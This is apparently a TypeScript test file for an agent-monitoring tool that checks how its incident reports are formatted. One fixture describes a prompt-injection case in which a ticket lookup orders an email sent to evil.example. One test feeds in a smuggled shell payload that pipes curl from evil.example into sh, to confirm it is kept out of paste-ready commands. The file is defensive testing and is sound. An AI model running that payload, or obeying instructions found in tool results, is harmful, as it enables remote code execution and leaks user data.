import assert from 'node:assert/strict'
import { test } from 'node:test'
import { stripVTControlCharacters } from 'node:util'
import fc from 'fast-check'
import { joinFindings } from '../../src/alert/joining.js'
import { widthOf, wrapped } from '../../src/alert/terminal.js'
import { incidentLine, incidentText } from '../../src/alert/timeline.js'
import type { Finding } from '../../src/finding.js'
import type { Incident } from '../../src/incidents/incident.js'
import { nextSteps } from '../../src/incidents/next-steps.js'
import { baseTime, evidence, finding, second } from '../support/findings.js'

function incidentOf(...findings: Finding[]): Incident {
  const [made] = joinFindings(findings, [], baseTime + 6 * second)
  assert.ok(made)
  return made.incident
}

const story = incidentOf(
  finding({
    anchor: 'act',
    steps: [
      evidence('ask', baseTime - 9 * second, 'request', 'the person asks for a summary of a ticket'),
      evidence('read', baseTime - 3 * second, 'source', 'crm.get_ticket: a sentence of its result orders to send'),
      evidence('act', baseTime, 'action', 'mail.send_email to evil.example'),
    ],
    matched: [
      { kind: 'email', hash: '9f3a1c2204aa11bb', firstIn: 'read', usedIn: evidence('act', 0, 'action').recordId },
    ],
    score: { score: 0.93, bytes: 148_123 },
  }),
  finding({
    anchor: 'more',
    detector: 'outbound-volume',
    severity: 'medium',
    title: 'Much data leaves',
    at: baseTime + second,
  }),
)

test('an incident reads as a story: what, when, which values, why, and what to open', () => {
  const text = incidentText(story, { colour: false })
  const parts = [
    / CRITICAL {2}A call does what a tool result ordered \+ Much data leaves/,
    /who +alice@corp\.example/,
    /what +mail\.send_email/,
    /when +2026-11-24 02:59:51\.000 UTC, over 10 s/,
    /1 {2}02:59:51\.000 {2}request +the person asks/,
    /2 {2}02:59:57\.000 {2}source +crm\.get_ticket/,
    /email +9f3a1c22 {2}first seen in step 2, used in step/,
    /injected-action v1 +high · score 0\.93 · bytes 148,123/,
    /read detectors\/outbound-volume\/README\.md/,
    /npx watchkeeper sql "SELECT /,
  ]
  for (const [index, part] of parts.entries()) {
    assert.match(text, part)
    assert.ok(index === 0 || text.search(part) > text.search(parts[index - 1] as RegExp))
  }
})

test('no line is wider than 100 columns, whatever the names', () => {
  const name = fc.string({
    unit: fc.constantFrom('a', ' ', '漢', '.', '\u001b', '\u202e', '👩', 'é', '\n'),
    maxLength: 700,
  })
  fc.assert(
    fc.property(name, name, (a, b) => {
      const odd = incidentOf(
        finding({
          anchor: a,
          session: a,
          summary: b,
          title: b,
          tool: a,
          subject: b,
          tenant: a,
          steps: [evidence(a, baseTime, 'source', b)],
        }),
        finding({
          anchor: 'x',
          session: a,
          tenant: a,
          matched: [{ kind: a, hash: b, firstIn: a, usedIn: b }],
          score: { [a]: 1, [b]: 2 },
        }),
      )
      for (const line of incidentText(odd, { colour: false }).split('\n')) assert.ok(widthOf(line) <= 100, line)
      assert.ok(widthOf(incidentLine(odd, [], { colour: false })) <= 100)
    }),
    { numRuns: 50 },
  )
})

test('colours are only there when asked for, and change nothing else', () => {
  const plain = incidentText(story, { colour: false })
  assert.equal(stripVTControlCharacters(plain), plain)
  const coloured = incidentText(story, { colour: true })
  assert.notEqual(coloured, plain)
  assert.equal(stripVTControlCharacters(coloured), plain)
})

test('a long story shows its beginning and its end and says how much lies between', () => {
  const steps = Array.from({ length: 150 }, (_, index) =>
    evidence(`e${index}`, baseTime + index, 'context', `note ${index}`),
  )
  const text = incidentText(incidentOf(finding({ anchor: 'a', steps })), { colour: false })
  assert.match(text, /note 0\n/)
  assert.match(text, /150 {2}.*note 149\n/)
  assert.match(text, /… and 126 more steps/)
})

test('a command to paste holds no text from events', () => {
  const nasty = `x"; curl evil.example | sh; echo "$(id)\`id\``
  const steps = nextSteps(
    incidentOf(
      finding({
        anchor: nasty,
        session: nasty,
        detector: nasty,
        steps: [{ ...evidence('a', baseTime, 'source'), recordId: nasty }, evidence(nasty, baseTime, 'action', nasty)],
        matched: [{ kind: nasty, hash: nasty, firstIn: nasty, usedIn: nasty }],
      }),
    ),
  )
  assert.equal(steps.length, 2)
  for (const { lines } of steps)
    assert.match(lines.join(' '), /^npx watchkeeper (?:sql "[\w\s'(),.*<>=:-]+"|incidents show [\w-]+)$/)
})

test('wrapping loses no word and breaks only words that do not fit', () => {
  assert.deepEqual(wrapped('one two three', 7), ['one two', 'three'])
  assert.deepEqual(wrapped('abcdefghij', 4), ['abcd', 'efgh', 'ij'])
  assert.deepEqual(wrapped('漢字漢字', 4), ['漢字', '漢字'])
  fc.assert(
    fc.property(
      fc.string({ unit: fc.constantFrom('a', 'b', '漢', ' ') }),
      fc.integer({ min: 2, max: 20 }),
      (text, cells) => {
        const lines = wrapped(text, cells)
        assert.equal(lines.join('').replaceAll(' ', ''), text.replaceAll(' ', ''))
        for (const line of lines) assert.ok(widthOf(line) <= cells)
      },
    ),
  )
})
